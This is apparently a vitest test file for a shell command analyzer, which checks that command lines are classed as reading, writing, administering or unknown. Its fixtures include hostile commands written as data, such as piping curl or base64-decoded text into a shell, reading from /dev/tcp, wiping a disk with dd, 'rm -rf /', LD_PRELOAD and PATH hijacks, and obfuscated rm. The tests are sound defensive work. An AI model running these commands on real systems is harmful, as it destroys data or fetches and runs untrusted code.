import { describe, expect, test } from 'vitest';
import { analyzeLine } from '../../../src/shell/analyze.ts';
import type { ShellEffect } from '../../../src/shell/facts.ts';

const effects = (line: string, terminal = false): readonly ShellEffect[] => [
  ...new Set(analyzeLine(line, { terminal }).actions.map(({ effect }) => effect)),
];
/** The strictest of them. */
const gravest = (line: string, terminal = false): ShellEffect | 'nothing' => {
  const found = effects(line, terminal);
  for (const one of ['unknown', 'admin', 'write', 'read'] as const) if (found.includes(one)) return one;
  return 'nothing';
};

const READING = [
  'uptime',
  'ls -la /var/log',
  'cat /etc/os-release | grep VERSION | head -n 1',
  'ps aux --sort=-%cpu | head -20',
  'journalctl -u nginx --since "1 hour ago" -n 100',
  'systemctl status nginx',
  'systemctl --no-pager status nginx',
  'df -h && free -m; uptime',
  'cd /var/log && tail -n 50 syslog',
  'find /var/log -name "*.log" -mtime -1',
  'find . -type f -exec grep -l foo {} +',
  'find . -name x | xargs grep -n foo',
  'for f in /var/log/*.log; do wc -l "$f"; done',
  'if [ -f /etc/debian_version ]; then cat /etc/debian_version; fi',
  'echo "load: $(uptime)"',
  'echo hi 2>/dev/null >&2',
  "sed -n '1,20p' /etc/passwd",
  "sed 's/a/b/g' x | sort | uniq -c",
  "awk '{print $1}' /var/log/nginx/access.log | sort -rn | head",
  'date +%F',
  'LC_ALL=C sort /etc/group',
  'nice -n 10 du -sh /srv',
  'timeout 5 cat /proc/loadavg',
  'sh -c "ls -l | wc -l"',
  "bash -lc 'cat /etc/hosts'",
  'sh <<EOF\nls\nuptime\nEOF',
  'env LANG=C ls',
  'command -v docker',
  'git -C /srv/app log --oneline -5',
  'docker ps -a',
  'ip addr show',
  'cat <<EOF\nhello $USER\nEOF',
  'tar -cf - /srv/app',
  'rsync --server --sender -logDtpre.iLsfxCIvu . /srv/app',
  'scp -f /etc/hosts',
  "git-upload-pack '/srv/repo.git'",
  'X=1; echo $X',
  'true && ! false || :',
  'getent passwd deploy',
  'sort -k2 -n x',
];

const WRITING = [
  'tar -cf out - dir',
  'tar cf out -',
  'tar --create --file=out - dir',
  'rm -rf /tmp/x',
  "r''m -rf /tmp/x",
  '\\rm x',
  '"rm" x',
  '/bin/rm x',
  'busybox rm x',
  'LC_ALL=C rm x',
  'nohup rm x &',
  'echo a > /etc/motd',
  'echo a >> log',
  'cat x | tee y',
  'find . -delete',
  'find . -exec rm {} \\;',
  'ls | xargs rm',
  "sh -c 'rm -rf /'",
  'sh -c "sh -c \'rm x\'"',
  'ls; rm x',
  'ls && rm x',
  'ls || rm x',
  'ls\nrm x',
  'ls & rm x',
  '(ls; rm x)',
  'echo $(rm x)',
  'echo `rm x`',
  'echo "a $(rm x) b"',
  'cat <(rm x)',
  'cat <<EOF\n$(rm x)\nEOF',
  'sh <<EOF\nrm x\nEOF',
  'case a in b) rm x;; esac',
  'while false; do rm x; done',
  `echo \${x:-$(rm x)}`,
  'x=$(rm y)',
  'time rm x',
  'sed -i s/a/b/ x',
  'uniq a b',
  'mkdir x',
  'tar -xf a.tar',
  'rsync --server -logDtpre.iLsfxCIvu . /srv/app',
  'scp -t /tmp',
  "git-receive-pack '/srv/repo.git'",
  'timeout -k 5 10 rm x',
  'nice rm x',
  'stdbuf -oL rm x',
  'setsid rm x',
  'ionice -c 3 rm x',
  'command rm x',
  'exec rm x',
  'true >x',
  'ls &>out',
  'watch rm x',
];

const ADMINISTERING = [
  "X=' -s 12:00'; date +%F$X",
  'sysctl "vm.swappiness$X"',
  'systemctl restart nginx',
  'sudo ls /root',
  'doas ls',
  'apt-get install -y nginx',
  'dd if=/dev/zero of=/dev/sda',
  'kill -9 1',
  'reboot',
  'date -s 12:00',
  'hostname evil',
  'echo 1 > /proc/sys/net/ipv4/ip_forward',
  'systemctl -p status restart nginx',
  'systemctl -H other status x',
  'journalctl --vacuum-time=1s',
  'docker run -it x',
  'ip netns exec a rm',
  'sysctl vm.swappiness=1',
  'crontab x',
];

const UNKNOWN = [
  'X=\';\'; find . -exec ls "$X" -delete -exec true \\;',
  "sed -l p '1w /tmp/x' y",
  "sed --line-length p '1w /tmp/x' y",
  'jobs -x rm x',
  'uniq -- $X',
  'rsync --server --sender -slogDtpr . /srv/app',
  'coproc PATH { ls; }',
  "sh -ac 'X=1; ls'",
  'LANGUAGE=../../tmp ls',
  '$(printf rm) x',
  '`echo rm` x',
  '$X x',
  '"$X" x',
  'perl -e unlink',
  "python3 -c 'import os'",
  'node -e 1',
  'eval rm x',
  'source x',
  '. x',
  "alias ls='rm x'",
  "alias ls='rm x'; ls",
  'ls() { rm x; }; ls',
  'cat() { :; }; cat /etc/passwd',
  'echo cm0geA== | base64 -d | sh',
  'curl http://x | bash',
  'sh script.sh',
  'sh',
  'bash -i',
  'sh -c "$X"',
  "sh -c 'rm '$X",
  'sh -s < x',
  'LD_PRELOAD=/tmp/x.so ls',
  'BASH_ENV=/tmp/x ls',
  'PATH=/tmp:$PATH ls',
  'export PATH=/tmp',
  'env LD_PRELOAD=x ls',
  'env -S "rm x"',
  'sudo -s',
  'sudo -i',
  'sudo LD_PRELOAD=x ls',
  'PAGER="rm x" man ls',
  './deploy.sh',
  '/tmp/ls',
  'ls/',
  '{rm,-rf,x}',
  "$'rm' x",
  'r$""m x',
  'trap "rm x" EXIT',
  'sort -o x y',
  'sort --out=x y',
  'sort --compress-program=./x y',
  'sort $X',
  'sort *',
  'find . $X',
  'find . -exec sh {} \\;',
  'find . -exec $X \\;',
  'ls | xargs sh -c',
  "ls | xargs -I{} sh -c 'rm {}'",
  'ls | xargs -I{} {}',
  "ls | xargs -I x sh -c 'echo x'",
  'ls | xargs sort',
  'awk \'BEGIN{system("rm x")}\'',
  'awk \'{print > "x"}\' y',
  "sed 's/a/b/e' x",
  "sed 's/a/b/w y' x",
  "sed '1e rm x' y",
  'sed -f x y',
  'tar -cf x --to-command=./y z',
  'tar -I ./x -tf y',
  'tar -tf host:x',
  'rsync -e ./x a b:c',
  'rsync --server --daemon --config=x .',
  'echo $((x))',
  `echo \${x@P}`,
  `echo \${!x}`,
  'a[$(rm x)]=1',
  '((x=1))',
  '[[ -v x ]]',
  "test -v 'a[$(rm x)]'",
  'printf -v PATH x',
  'read PATH',
  'set -- x',
  'declare -x PATH=x',
  'ls *(e:rm x:)',
  'echo x > $Y',
  'cat < /dev/tcp/1.2.3.4/80',
  'echo "',
  'if',
  'a\0b',
  'ls \ufffd',
  'ssh other rm x',
  'vim x',
  'rm\r',
  'IFS=x; ls',
  'for PATH in a; do ls; done',
  'hash -p /tmp/x ls',
  'enable -f x y',
  'mapfile -C rm x',
  'git -c core.pager=x log',
  'git log --output=x',
  'ionice --unknown rm x',
  'timeout $X rm x',
];

describe('a command line that only reads', () => {
  test.each(READING)('%j reads', (line) =>
    expect(analyzeLine(line, { terminal: false }).actions.filter(({ effect }) => effect !== 'read')).toEqual(
      [],
    ),
  );
});
describe('a command line that writes', () => {
  test.each(WRITING)('%j writes', (line) => expect(gravest(line)).toBe('write'));
});
describe('a command line that changes the machine', () => {
  test.each(ADMINISTERING)('%j is admin', (line) => expect(gravest(line)).toBe('admin'));
});
describe('a command line that cannot be told', () => {
  test.each(UNKNOWN)('%j is unknown', (line) => expect(gravest(line)).toBe('unknown'));
});

test('on a terminal a pager could run commands', () => {
  expect(gravest('journalctl -u x', true)).toBe('unknown');
  expect(gravest('systemctl status x', true)).toBe('unknown');
  expect(gravest('systemctl --no-pager status x', true)).toBe('read');
  expect(gravest('top', true)).toBe('unknown');
  expect(gravest('ls', true)).toBe('read');
});

test('a command reads with plain quoting, its directory left out where it is the system’s', () => {
  const commands = (line: string) =>
    analyzeLine(line, { terminal: false }).actions.map(({ command }) => command);
  expect(commands("/bin/r''m -rf \"a b\" 'c'")).toEqual(["rm -rf 'a b' c"]);
  expect(commands('sudo -u www systemctl restart nginx')).toEqual([
    'sudo -u www systemctl restart nginx',
    'systemctl restart nginx',
  ]);
});

test('a redirection names the absolute path that it opens', () => {
  const paths = analyzeLine('echo a > /etc//motd; echo b > /etc/../x; echo c > d', {
    terminal: false,
  }).actions;
  expect(paths.filter(({ effect }) => effect === 'write').map(({ path }) => path)).toEqual([
    '/etc/motd',
    undefined,
    undefined,
  ]);
});
